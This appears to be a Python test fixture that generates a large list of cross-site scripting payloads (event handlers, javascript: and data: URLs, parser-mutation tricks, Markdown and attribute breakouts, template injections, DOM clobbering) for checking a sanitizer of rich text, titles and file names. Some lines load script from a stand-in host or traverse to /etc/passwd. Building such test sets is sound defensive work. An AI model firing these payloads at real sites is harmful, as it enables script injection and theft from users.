"""Texts that want to run a script where they are shown: for rich text, titles, tags, names, file names and captions.

Put together from the ways in which browsers, parsers and Markdown were made to run scripts: handlers, addresses with other
schemes, elements that a parser reads another way the second time, style sheets, and names that stand in the way of a script.
"""

# ruff: noqa: E501 (each stands whole on its line)

from itertools import product

CALL = "alert(1)"
ELEMENTS = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("a href=# autofocus tabindex=0", "onfocus"),
    ("p style=animation-name:x", "onanimationstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("video><source src=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("figure", "onmouseover"),
    ("table background=x", "onload"),
    ("blockquote", "onclick"),
    ("h2 id=kop-1", "onclick"),
]
# The same thing, as filters have overlooked it.
SPELLINGS = [
    "<{element} {event}={call}>x",
    "<{element}\n{event}\n=\n'{call}'>x",
    '<{element}/{event}="{call}"//>x',
    "<{upper} {event_upper}=`{call}`>x",
    "<{element} x='>' {event}={entities}>x",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#09;script:alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "javascript://lindedaal.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//elders.example/x.js",
    "blob:http://localhost/x",
    "file:///etc/passwd",
]
PLACES = [
    '<a href="{}">x</a>',
    "[x]({})",
    "![x]({})",
    '<img src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
]
# Elements whose content is read as text in one place and as markup in another.
RAW = ["style", "title", "noscript", "textarea", "xmp", "noembed", "noframes", "iframe", "plaintext", "template"]
FOREIGN = ["svg", "math", "math><mtext><table><mglyph", "svg><desc", "svg><foreignObject"]
MUTATIONS = [
    '<{0}><{1}><img src=x title="</{1}><img src=x onerror=alert(1)>">',
    "<{0}><{1}><!--</{1}><img src=x onerror=alert(1)>-->",
]
OTHERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//elders.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a href='javascript:alert(1)'><b>x",
    "<base href='https://elders.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=import href=//elders.example/>",
    "<embed src=//elders.example/x.swf>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<svg><script xlink:href='data:,alert(1)'></script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>@import '//elders.example/x.css';</style>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//elders.example/x.xml)'>x</p>",
    "<form><input name=action><button formaction=javascript:alert(1)>x</button></form>",
    "<form name=body></form><img name=cookie><a id=location href='javascript:alert(1)'>x</a>",
    "<a id=editor-text></a><a id=editor-ui></a><form data-editor></form>",
    "<input name=csrfmiddlewaretoken value=x><input name=source value=x>",
    "<template id=editor-text><img src=x onerror=alert(1)></template>",
    "</template><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<div hx-get=/accounts/ hx-trigger=load hx-on:load=alert(1)>x</div>",
    "<div hx-on::after-request=alert(1) data-hx-get=/>x</div>",
    "<a href=/accounts/logout/ hx-post=/accounts/logout/ hx-trigger=load>x</a>",
    "<p class=note data-announce='<img src=x onerror=alert(1)>'>x</p>",
    "<p data-draft=//elders.example/ data-people=//elders.example/>x</p>",
    "<sup data-note=x><a href=#noot-1><img src=x onerror=alert(1)></a></sup>",
    "<section><ol><li><p><img src=x onerror=alert(1)></p></li></ol></section>",
    "<figure><img src=/blogs/pictures/aaaaaaaaaaaa/480/ alt='\" onerror=alert(1) x=\"'><figcaption><script>alert(1)</script></figcaption></figure>",
    "<ol start='1 onclick=alert(1)'><li>x</li></ol>",
    "<th align='left\" onclick=\"alert(1)'>x</th>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<a href='https://elders.example/\" onmouseover=\"alert(1)'>x</a>",
    "<a href='https://elders.example/' title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<img src='/blogs/pictures/aaaaaaaaaaaa/480/' title='\"><script>alert(1)</script>'>",
    "<script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "<strong onclick=alert(1)>x</strong>",
    "<em onmouseover=alert(1)>x</em> <s onfocus=alert(1)>y</s> <br onload=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "x[^<img src=x onerror=alert(1)>]",
    '[x][1]\n\n[1]: javascript:alert(1) "x"',
    "[x](<javascript:alert(1)>)",
    "[x](https://elders.example/ 'x\" onclick=\"alert(1)')",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://elders.example/"onmouseover=alert(1)>',
    "https://elders.example/<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](/x/)",
    '!["><img src=x onerror=alert(1)>](/blogs/pictures/aaaaaaaaaaaa/480/)',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "{{ 7|add:7 }}{% load static %}{% include 'base.html' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    'x" onerror="alert(1)" y="',
    "`;alert(1)//",
    "'-alert(1)-'",
    "@<img src=x onerror=alert(1)>",
    "@Alice</a><script>alert(1)</script>",
    "../../../../etc/passwd\x00.png",
    'con.svg"><script>alert(1)</script>.png',
]


def _handlers() -> list[str]:
    entities = "".join(f"&#{ord(sign)};" for sign in CALL)
    return [
        spelling.format(
            element=element, event=event, upper=element.upper(), event_upper=event.upper(), call=CALL, entities=entities
        )
        for (element, event), spelling in product(ELEMENTS, SPELLINGS)
    ]


PAYLOADS = list(
    dict.fromkeys(
        [
            *_handlers(),
            *(place.format(scheme) for place, scheme in product(PLACES, SCHEMES)),
            *(way.format(foreign, raw) for way, foreign, raw in product(MUTATIONS, FOREIGN, RAW)),
            *OTHERS,
        ]
    )
)
